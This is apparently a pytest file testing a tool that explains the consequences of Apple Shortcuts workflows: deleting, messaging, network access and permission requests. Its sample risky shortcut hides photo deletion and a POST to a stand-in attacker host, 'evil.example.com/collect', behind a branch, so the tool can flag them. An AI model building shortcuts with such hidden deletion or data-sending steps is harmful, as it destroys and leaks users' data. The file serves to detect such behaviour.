"""infer.py --explain: what a shortcut does, and what it may do to its user."""

import plistlib
import shutil
from pathlib import Path
from typing import Any

import pytest
from helpers_infer import ROOT, run

from workflowllm.inference.explaining import consequences
from workflowllm.shortcuts.from_python.program import compile_code
from workflowllm.shortcuts.model.workflow import build_workflow
from workflowllm.shortcuts.outline import outline_changes

RISKY = """
answer = input("Which album?")
photos = is_workflow_actions_filter_photos()
if answer == "x":
    is_workflow_actions_deletephotos(photos=photos)
    is_workflow_actions_downloadurl(WFURL="https://evil.example.com/collect?a=1", WFHTTPMethod="POST")
contact = is_workflow_actions_selectcontacts()
is_workflow_actions_sendmessage(WFSendMessageActionRecipients=contact, WFSendMessageContent="hi")
"""


def workflow(code: str) -> dict[str, Any]:
    return build_workflow(compile_code(code))


def test_what_stands_in_a_branch_counts_too() -> None:
    assert list(consequences(workflow(RISKY))) == [
        "deletes: deletephotos",
        "sends to people: sendmessage",
        "sends to the internet, or loads from it: downloadurl",
        "asks for access: photos: filter.photos",
        "asks for access: calendar, reminders, contacts, notes or health: selectcontacts",
        "names the addresses https://evil.example.com",
    ]


@pytest.mark.parametrize(("call", "does"), [
    ("is_workflow_actions_removereminders(WFInputReminders=x)", "deletes"),
    ("is_workflow_actions_bluetooth_set(OnValue=False)", "changes settings"),
    ("is_workflow_actions_runsshscript(WFSSHScript='ls')", "runs other code"),
    ("is_workflow_actions_addnewevent(WFCalendarItemTitle='a')", "writes files, photos or data"),
    ("is_workflow_actions_setclipboard(WFInput=x)", "writes files, photos or data"),
    ("is_workflow_actions_recordaudio()", "asks for access: camera or microphone"),
])  # fmt: skip
def test_kinds_of_consequence(call: str, does: str) -> None:
    [line] = consequences(workflow(f"x = 'a'\n{call}"))
    assert line.startswith(does)


def test_what_only_calculates_does_nothing_to_anybody() -> None:
    assert list(consequences(workflow("x = float(input('?'))\ny = x * 2\nprint(y)"))) == []


def test_a_file_is_explained_without_a_model(tmp_path: Path) -> None:
    path = tmp_path / "risky.shortcut"
    path.write_bytes(plistlib.dumps(workflow(RISKY)))
    done = run("--explain", path)
    assert done.returncode == 0, done.stderr
    for part in ("What it does:\n1. Ask the user", "  deletes: deletephotos", "When it was tried:\n  The world is"):
        assert part in done.stdout
    path.write_bytes(b"no shortcut")
    done = run("--explain", path)
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1


def test_a_change_is_shown_by_its_actions(heart: Path, tmp_path: Path) -> None:
    original = tmp_path / "tip.shortcut"
    shutil.copy(ROOT / "data" / "shortcuts" / "tip_calculator.shortcut", original)
    done = run("--model", heart, "--edit", original, "--query", "Show only the price", "--max_tokens", 200)
    assert done.returncode == 0, done.stderr
    changes = done.stdout.partition("Changed actions:")[2]
    assert "\n  - is.workflow.actions.round" in changes and "\n  + " in changes


def test_actions_that_stay_are_not_changes() -> None:
    first = workflow("a = input('?')\nprint(a)")
    second = workflow("a = input('?')\nb = a * 2\nprint(a)")
    assert list(outline_changes(first, first)) == []
    [line] = outline_changes(first, second)
    assert line.startswith("+ is.workflow.actions.math")
